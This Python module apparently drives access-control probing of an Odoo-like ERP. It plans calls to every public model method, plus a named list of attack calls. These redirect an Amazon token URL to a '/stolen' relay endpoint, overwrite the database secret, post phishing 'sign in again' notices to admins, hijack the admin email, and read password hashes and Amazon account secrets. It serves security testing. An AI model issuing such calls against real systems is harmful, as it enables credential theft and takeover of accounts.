"""Every public method of every model of a database, each with plausible arguments.

:func:`plan` lists ``(model, method, args, kwargs)`` calls as a remote caller
would make them: record methods get ids of existing records first (the
lowest ids and the records an attacker wants: the admin, their contact, the
Amazon account and its secrets), then a value for every parameter without a
default, chosen by the parameter's name (``vals`` a dict of plausible field
values, ``key`` a system parameter, ``code`` a sequence code ...).
"""
from __future__ import annotations

import inspect

from coquiapps.orm import SUPERUSER_ID
from coquiapps.orm import models as orm_models

#: run last, in this order: they change or remove the records the other calls look at
LAST = ("write", "copy", "toggle_active", "action_archive", "action_unarchive", "unlink")
#: the ORM's methods that work on the model, as Odoo's clients call them (the others take ids)
MODEL_LEVEL = ("create", "search", "search_count", "search_read", "name_search", "fields_get", "default_get",
               "check_access_rights", "read_group", "name_create",
               "browse", "with_context", "with_user", "with_env", "with_company", "sudo")
#: what Odoo's external API calls among the ORM's own methods; the ORM's other public methods are plumbing
ENTRY_POINTS = MODEL_LEVEL[:10] + ("read", "write", "unlink", "copy", "name_get", "exists", "toggle_active",
                                   "action_archive", "action_unarchive", "get_external_id")
FIRST_IDS = 3
CSV = "sku,marketplace,default_code\nPROBE-SKU,,PROBE-CODE\n"


def public_methods(cls) -> list[str]:
    """The public functions and classmethods of a model class (ORM plumbing included)."""
    names = []
    for name in dir(cls):
        if name.startswith("_"):
            continue
        attribute = inspect.getattr_static(cls, name)
        if isinstance(attribute, classmethod) or inspect.isfunction(attribute):
            names.append(name)
    return sorted(names, key=lambda n: (n in LAST and LAST.index(n) + 1, n))


def is_plumbing(cls, name: str) -> bool:
    """Whether ``name`` is one of the ORM's own public methods that no client calls (``sudo``, ``mapped`` ...)."""
    owner = next(klass for klass in cls.__mro__ if name in vars(klass))
    return owner in orm_models.ORM_CLASSES and name not in ENTRY_POINTS


def _function(cls, name):
    attribute = inspect.getattr_static(cls, name)
    return attribute.__func__ if isinstance(attribute, classmethod) else attribute


def _takes_ids(cls, name) -> bool:
    attribute = inspect.getattr_static(cls, name)
    if isinstance(attribute, classmethod) or name in MODEL_LEVEL:
        return False
    return not (getattr(attribute, "_api_model", False) or getattr(attribute, "_api_create_multi", False))


def _writable(model) -> list:
    return [f for f in model._fields.values()
            if f.store and not f.readonly and not f.compute and not f.related and f.name != "id"]


def write_values(model) -> dict:
    """A change a user might make: the name (or first text field) and the email."""
    chars = [f.name for f in _writable(model) if f.type in ("char", "text")]
    values = {}
    if chars:
        values["name" if "name" in chars else chars[0]] = f"Probe {model._name}"
    if "email" in chars:
        values["email"] = "probe@attacker.invalid"
    return values


def create_values(env, model) -> dict:
    """``write_values`` plus a plausible value for every required field without a default."""
    values = write_values(model)
    for field in _writable(model):
        if not field.required or field.default is not None or field.name in values:
            continue
        if field.type == "many2one":
            values[field.name] = env[field.comodel_name].sudo().with_context(active_test=False).search(
                [], limit=1).id or False
        elif field.type in ("char", "text", "html"):
            values[field.name] = "probe"
        elif field.type == "selection":
            choices = field.get_values(model)
            values[field.name] = choices[0][0] if choices else False
        elif field.type in ("integer", "float", "monetary"):
            values[field.name] = 1
        elif field.type == "boolean":
            values[field.name] = True
        elif field.type == "date":
            values[field.name] = "2026-01-01"
        elif field.type == "datetime":
            values[field.name] = "2026-01-01 00:00:00"
    return values


def populate(env) -> list[str]:
    """One record (made by the superuser) in every model that has none; the models where that failed."""
    failed = []
    for name in sorted(env.registry):
        model = env[name].with_context(active_test=False)
        if model._abstract or not model._table or model.search_count([], limit=1):
            continue
        try:
            with env.cr.savepoint():
                model.create(create_values(env, model))
        except Exception as exc:  # a model whose records come from elsewhere: called on no record
            failed.append(f"{name}: {exc}")
    return failed


def _argument(env, model, name: str, world, relay_url: str):
    """A plausible value for parameter ``name`` of a method of ``model``."""
    if name == "vals":
        return write_values(model)
    if name == "vals_list":
        return create_values(env, model)
    admin = env.ref("base.user_admin")
    values = {
        "domain": [], "args": [],
        "fields": ["id"], "fields_list": sorted(model._fields), "allfields": [], "default": {},
        "key": "sale_amazon_spapi.lwa_token_url", "value": f"{relay_url}/stolen",
        "code": "sale.order", "count": 1000, "title": "Action required",
        "message": f"Sign in again at {relay_url}/login", "record": False, "level": "danger",
        "operation": "read", "mode": "read", "xmlid": "base.group_system", "old_password": "not-the-password",
        "new_password": "attacker-password", "amount": 1.005, "model": "res.users", "view_type": "form",
        "text": CSV, "func": "name", "ids": [admin.id], "user": SUPERUSER_ID, "env": SUPERUSER_ID,
        "company": admin.company_id.id, "flag": True, "fnames": ["name"], "uid": admin.id, "password": "admin",
        "name": "probe", "force": True, "groupby": ["id"], "module": "base", "xml_id": "group_system",
        "docids": [admin.id],
    }
    if name not in values:
        raise AssertionError(f"no plausible value for parameter {name!r} of {model._name}: add one here")
    return values[name]


def record_ids(env, model, world) -> list[int]:
    """The lowest ids of ``model`` and the ids an attacker wants of it."""
    if model._abstract or not model._table:
        return []
    env.cr.execute(f'SELECT id FROM "{model._table}" ORDER BY id LIMIT %s', (FIRST_IDS,))
    ids = [row[0] for row in env.cr.fetchall()]
    return ids + [i for i in world.interesting.get(model._name, []) if i not in ids]


def plan(env, world, relay_url: str, plumbing: int | None = None) -> list[tuple[str, str, list, dict]]:
    """``(model, method, args, kwargs)`` for every public method of every model of ``env``.

    ``plumbing`` 0 or 1 keeps the ORM plumbing of every other model only (the
    even or the odd ones): two plans share the work of calling it everywhere.
    """
    calls = []
    for index, name in enumerate(sorted(env.registry)):
        model = env[name]
        cls = type(model)
        ids = record_ids(env, model, world)
        for method in public_methods(cls):
            if plumbing is not None and index % 2 != plumbing and is_plumbing(cls, method):
                continue
            args = [ids] if _takes_ids(cls, method) else []
            parameters = list(inspect.signature(_function(cls, method)).parameters.values())[1:]
            for parameter in parameters:
                if parameter.default is inspect.Parameter.empty and parameter.kind in (
                        parameter.POSITIONAL_ONLY, parameter.POSITIONAL_OR_KEYWORD):
                    args.append(_argument(env, model, parameter.name, world, relay_url))
            calls.append((name, method, args, {}))
    return calls


def attacks(world, relay_url: str) -> list[tuple[str, str, list, dict]]:
    """The calls of issue 12 by name, including methods that no longer exist under that name."""
    return [
        ("ir.config_parameter", "init", [], {"force": True}),
        ("ir.config_parameter", "set_param", ["database.secret", "attacker"], {}),
        ("ir.config_parameter", "set_param_default", ["probe.new.key", relay_url], {}),
        ("res.notice", "notify_admins", ["Action required", f"Sign in at {relay_url}"], {}),
        ("ir.sequence", "next_by_code_batch", ["sale.order", 1000], {}),
        ("ir.sequence", "next_by_code", ["sale.order"], {}),
        ("ir.module.module", "update_list", [], {}),
        ("res.users", "check_credentials", [2, "admin"], {}),
        ("res.partner", "write", [[world.admin_partner], {"email": "admin@attacker.invalid",
                                                           "name": "Not The Admin"}], {}),
        ("res.partner", "write", [[world.customer], {"email": "new@customer.example"}], {}),
        ("res.partner", "check_access_rule", [[world.customer], "read"], {}),
        ("res.users", "read", [[2], ["password_crypt", "login"]], {}),
        ("amazon.account", "read", [world.interesting["amazon.account"]], {}),
        ("amazon.account", "export_offers_csv", [world.interesting["amazon.account"]], {}),
    ]
